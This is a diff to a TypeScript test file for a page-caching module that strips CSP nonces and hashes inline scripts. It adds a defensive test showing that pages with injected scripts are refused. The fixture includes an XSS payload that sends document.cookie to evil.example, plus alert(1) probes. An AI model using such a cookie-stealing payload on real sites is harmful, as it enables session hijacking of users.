@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { inlineScriptHashes, keptPage, NONCE_SLOT } from "./kept-page";
+import { appScriptHashes, keptPage, NONCE_SLOT } from "./kept-page";
 
 const sha256 = async (text: string) => {
   const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
@@ -14,7 +14,7 @@ describe("kept page", () => {
     `<script src="/b.js" nonce="${NONCE_SLOT}"></script><script nonce="${NONCE_SLOT}">window.a = "€";</script></body></html>`;
 
   it("drops the nonce slots and names each runnable inline script by its hash, once", async () => {
-    const kept = await keptPage({ html, headers: [["Content-Type", "text/html; charset=utf-8"]], at: 1 });
+    const kept = (await keptPage({ html, headers: [["Content-Type", "text/html; charset=utf-8"]], at: 1 }))!;
     const text = new TextDecoder().decode(kept.body);
     expect(text).not.toContain(NONCE_SLOT);
     expect(text).not.toContain("nonce");
@@ -25,7 +25,21 @@ describe("kept page", () => {
   });
 
   it("hashes the script text exactly as it stands between the tags", async () => {
-    expect(await inlineScriptHashes("<script>\n a&amp;b </script>")).toEqual([await sha256("\n a&amp;b ")]);
-    expect(await inlineScriptHashes('<script type="text/plain">x</script><script src="/x.js"></script>')).toEqual([]);
+    expect(await appScriptHashes(`<script nonce="${NONCE_SLOT}">\n a&amp;b </script>`)).toEqual([await sha256("\n a&amp;b ")]);
+    expect(await appScriptHashes('<script type="text/plain">x</script><script src="/x.js"></script>')).toEqual([]);
+  });
+
+  it("refuses a page with an inline script the app did not emit, instead of allowing it by hash", async () => {
+    // Say a product description that slipped through escaping: it has no nonce slot.
+    const injected = html.replace("<body>", `<body><p>Nice ring</p><script>fetch("//evil.example/?" + document.cookie)</script>`);
+    expect(await appScriptHashes(injected)).toBeNull();
+    expect(await keptPage({ html: injected, headers: [], at: 1 })).toBeNull();
+    for (const attributes of [' type="module"', ' type="text/javascript"', ' nonce="guess"', ` data-nonce="${NONCE_SLOT}"`]) {
+      const page = html.replace("<body>", `<body><script${attributes}>alert(1)</script>`);
+      expect(await keptPage({ html: page, headers: [], at: 1 }), attributes).toBeNull();
+    }
+    // Data blocks and external scripts do not run inline: they do not stop a page being kept.
+    const data = html.replace("<body>", `<body><script type="application/json">{"a":1}</script>`);
+    expect(await keptPage({ html: data, headers: [], at: 1 })).not.toBeNull();
   });
 });
